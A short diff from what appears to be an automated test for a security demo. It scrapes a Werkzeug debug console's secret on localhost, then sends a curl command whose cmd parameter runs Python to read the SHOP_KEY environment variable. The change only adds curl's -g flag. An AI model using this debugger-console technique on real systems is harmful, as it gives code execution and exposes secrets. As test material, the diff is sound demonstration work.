@@ -86,7 +86,7 @@ claim(
     await development.shell("S=$(curl -s localhost:5000/console | grep 'SECRET =' | cut -d '\"' -f 2)", /\$$/);
     const command = "__import__('os').environ['SHOP_KEY']";
     await development.shell(
-      `curl -s "localhost:5000/console?__debugger__=yes&frm=0&s=$S&cmd=${command}"`,
+      `curl -g -s "localhost:5000/console?__debugger__=yes&frm=0&s=$S&cmd=${command}"`,
       /made-up-key/,
     );
 
